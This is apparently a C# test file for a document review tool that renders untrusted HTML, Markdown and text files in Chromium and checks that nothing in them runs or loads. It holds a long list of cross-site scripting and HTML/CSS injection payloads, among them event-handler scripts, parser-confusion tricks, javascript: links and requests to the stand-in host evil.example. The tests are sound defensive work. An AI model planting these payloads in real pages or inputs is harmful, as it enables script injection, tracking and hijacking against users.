using Footbridge.Review.Tests.Browsing;

namespace Footbridge.Review.Tests;

/// <summary>Documents come from anyone. Nothing of them runs, loads, covers the page or leads away, in the browser itself.</summary>
public sealed class HostileDocumentTests(Chromium chromium) : IDisposable
{
    // Everything sets the same mark or asks for the same address; the words around it must come through.
    private static readonly string[] s_payloads =
    [
        "<script>window.pwned=1</script>",
        "<script src=https://evil.example/x.js></script>",
        "<SCRIPT\n>window.pwned=1</SCRIPT\n>",
        "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
        "<img src=x onerror=window.pwned=1>",
        "<img src=https://evil.example/x.png>",
        "<img src='x' alt='\" onerror=window.pwned=1 x=\"'>",
        "<img alt=\"<script>window.pwned=1</script>\">",
        "<image src=x onerror=window.pwned=1>",
        "<svg onload=window.pwned=1>",
        "<svg><script>window.pwned=1</script></svg>",
        "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
        "<svg><style><img src=x onerror=window.pwned=1></style></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe></foreignObject></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.pwned=1&gt;\">",
        "<math><mi//xlink:href=\"data:x,<script>window.pwned=1</script>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
        "<noscript><p title=\"</noscript><img src=x onerror=window.pwned=1>\">",
        "<template><script>window.pwned=1</script></template>",
        "<template shadowrootmode=open><script>window.pwned=1</script></template>",
        "<iframe src=javascript:parent.pwned=1></iframe>",
        "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
        "<object data=javascript:window.pwned=1></object>",
        "<embed src=javascript:window.pwned=1>",
        "<a href=javascript:window.pwned=1>link</a>",
        "<a href='jav&#x09;ascript:window.pwned=1'>link</a>",
        "<a href=https://evil.example/ target=_blank ping=https://evil.example/ping>link</a>",
        "<form action=https://evil.example/><input name=a autofocus onfocus=window.pwned=1><button>Send</button></form>",
        "<button formaction=javascript:window.pwned=1>Send</button>",
        "<isindex action=javascript:window.pwned=1 type=image>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<base href=https://evil.example/>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<link rel=prefetch href=https://evil.example/x>",
        "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
        "<style>*{background:url(https://evil.example/x)}</style>",
        "<div style=\"background:url(https://evil.example/x.png)\">a</div>",
        "<div style='background:u\\72l(https://evil.example/x.png)'>a</div>",
        "<div style='background:&#117;rl(https://evil.example/x.png)'>a</div>",
        "<div style='background-image:image-set(\"https://evil.example/x.png\" 1x)'>a</div>",
        "<div style='width:expression(window.pwned=1)'>a</div>",
        "<div style='color:red}body{display:none'>a</div>",
        "<div style='color:red</style><script>window.pwned=1</script>'>a</div>",
        "<div style='font-family:\"a;}body{display:none}'>a</div>",
        "<div style='color:red/*'>a</div><div style='*/;display:none'>b</div>",
        "<div style='position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:99999;background:#fff'>cover</div>",
        "<div style='position:absolute!important;inset:0'>cover</div>",
        "<div style='margin:-9999px'>away</div>",
        "<div onclick=window.pwned=1 onmouseover=window.pwned=1 id=data class=hidden>a</div>",
        "<div id=inspector>clobber</div><form name=body><input name=parentNode></form>",
        "<details open ontoggle=window.pwned=1><summary>a</summary>b</details>",
        "<video src=x onerror=window.pwned=1><source onerror=window.pwned=1></video>",
        "<audio src=https://evil.example/a.mp3 autoplay></audio>",
        "<marquee onstart=window.pwned=1>a</marquee>",
        "<table background=https://evil.example/x.png><tr><td background=javascript:window.pwned=1>a</td></tr></table>",
        "<body onload=window.pwned=1 background=https://evil.example/x.png>",
        "<p title='</p><script>window.pwned=1</script>'>a</p>",
        "<p title=`><script>window.pwned=1</script>`>a</p>",
        "<!--><script>window.pwned=1</script>-->",
        "<!--!><img src=x onerror=window.pwned=1>-->",
        "<![CDATA[<script>window.pwned=1</script>]]>",
        "<?xml-stylesheet href='javascript:window.pwned=1'?>",
        "<xmp><script>window.pwned=1</script></xmp>",
        "<textarea><script>window.pwned=1</script></textarea><script>window.pwned=1</script>",
        "<title><script>window.pwned=1</script></title>",
        "<select><option><script>window.pwned=1</script></select>",
        "<frameset><frame src=javascript:window.pwned=1></frameset>",
        "</article></div></main></body></html><script>window.pwned=1</script>",
        "</div></div></div></article></section><h1>Ready to go out.</h1>",
        "</script><script>window.pwned=1</script>",
        "<script type=application/json id=data>{}</script>",
        "&lt;script&gt;window.pwned=1&lt;/script&gt;",
        "&#60;img src=x onerror=window.pwned=1&#62;",
        "<img\u000Csrc=x\u000Conerror=window.pwned=1>",
        "<a\u00A0href=x onclick=window.pwned=1>a</a>",
        "<x onclick=window.pwned=1 tabindex=0 autofocus onfocus=window.pwned=1>a",
    ];

    private static readonly HashSet<string> s_elements =
    [
        .. "ARTICLE DIV P SPAN DATA B STRONG I EM U INS S STRIKE DEL SMALL BIG SUB SUP FONT CODE TT KBD SAMP CITE NOBR BR WBR HR PRE".Split(
            ' '
        ),
        .. "H1 H2 H3 H4 H5 H6 UL OL LI DL DT DD BLOCKQUOTE CENTER TABLE CAPTION COLGROUP COL THEAD TBODY TFOOT TR TD TH".Split(' '),
    ];

    private readonly ReviewFiles _files = new();

    public static TheoryData<string> Formats => ["htm", "md", "txt"];

    public void Dispose() => _files.Dispose();

    [Theory]
    [MemberData(nameof(Formats))]
    public async Task No_payload_runs_loads_or_breaks_out(string format)
    {
        await using var open = await OpenPage.At(chromium, Page(format, s_payloads), "#document");
        await Harmless(open);
        // The page around it still works.
        await open.Press("j");
        await open.Shows("#inspection h2", "$5.0 million");
        Assert.True(await open.IsInSight("#pages data.on"));
    }

    [Fact]
    public async Task Each_payload_is_harmless_by_itself_too()
    {
        // One that swallows the rest of its document must not hide the others from the test.
        await using var open = await OpenPage.At(chromium, Page("htm", []));
        foreach (var payload in s_payloads)
        {
            await open.Go(Page("htm", [payload]), "#f1");
            await Harmless(open);
            Assert.Equal("$5.0 million", await open.Text("#inspection h2"));
        }
    }

    [Fact]
    public async Task Paths_labels_and_titles_are_text_wherever_they_are_shown()
    {
        const string Evil = "<img src=x onerror=window.pwned=1>";
        var text = $"""
            # Results {Evil}

            Revenue {Evil} was $5.0 million in the first quarter of 2013.

            | {Evil} (in thousands) | 1Q 2013 {Evil} | 1Q 2012 |
            | --- | ---: | ---: |
            | Services {Evil} | 4,000 | 3,000 |
            | Products {Evil} | 1,100 | 1,000 |
            | Total revenue {Evil} | 5,200 | 4,000 |
            """;
        await using var open = await OpenPage.At(chromium, _files.Of($"{Evil}.md", text));
        foreach (var view in (string[])["document", "tables", "measures", "overview"])
        {
            await open.Page.ClickAsync($"#to-{view}");
        }
        for (var step = 0; step < 6; step++)
        {
            await open.Press("j");
        }
        await open.Page.FillAsync("#search", "services");
        await Harmless(open);
        Assert.Contains("<img", await open.Text(".hero .file"), StringComparison.Ordinal);
    }

    private string Page(string format, string[] payloads)
    {
        var isHtml = format == "htm";
        var body = string.Join(
            "\n",
            payloads.Select(
                (payload, number) =>
                    isHtml
                        ? $"<div>before {number}. {payload}</div><p>after {number}.</p>"
                        : $"before {number}. {payload}\n\nafter {number}.\n"
            )
        );
        var text = isHtml
            ? $"<html><head><title>t</title></head><body><p>Revenue was $5.0 million.</p>\n{body}\n<p>Income was $1.0 million.</p></body></html>"
            : $"{(format == "md" ? "# Results\n\n" : "RESULTS\n\n")}Revenue was $5.0 million.\n\n{body}\n\nIncome was $1.0 million.\n";
        return _files.Of($"hostile.{format}", text);
    }

    private static async Task Harmless(OpenPage open)
    {
        await open.Page.EvaluateAsync(
            "for (const e of document.querySelectorAll('.page *')) for (const t of ['click', 'mouseover', 'focus', 'toggle']) e.dispatchEvent(new Event(t))"
        );
        Assert.True(await open.Page.EvaluateAsync<bool>("window.pwned === undefined"));
        var elements = await open.Page.EvaluateAsync<string[]>(
            "[...new Set([...document.querySelectorAll('#pages *:not(#documents, #documents *)')].map(e => e.tagName))]"
        );
        Assert.DoesNotContain(elements, element => !s_elements.Contains(element));
        var attributes = await open.Page.EvaluateAsync<string[]>(
            "[...new Set([...document.querySelectorAll('.page *')].flatMap(e => e.getAttributeNames()))]"
        );
        Assert.DoesNotContain(
            attributes,
            name =>
                name.StartsWith("on", StringComparison.Ordinal)
                || name is "style" or "src" or "href" or "name" or "action" or "background" or "srcdoc" or "title" or "tabindex"
        );
        // What the page is made of stands where it stood: no end tag of the document closed it.
        Assert.True(
            await open.Page.EvaluateAsync<bool>(
                "document.querySelectorAll('script').length === 3 && document.querySelectorAll('body > main').length === 1 && document.querySelectorAll('main > aside').length === 3"
            )
        );
        Assert.Equal(1, await open.Page.Locator("h1:not(.page h1)").CountAsync());
        var positions = await open.Page.EvaluateAsync<string[]>(
            "[...new Set([...document.querySelectorAll('.page *:not(data)')].map(e => getComputedStyle(e).position))]"
        );
        Assert.DoesNotContain(positions, position => position != "static");
    }
}
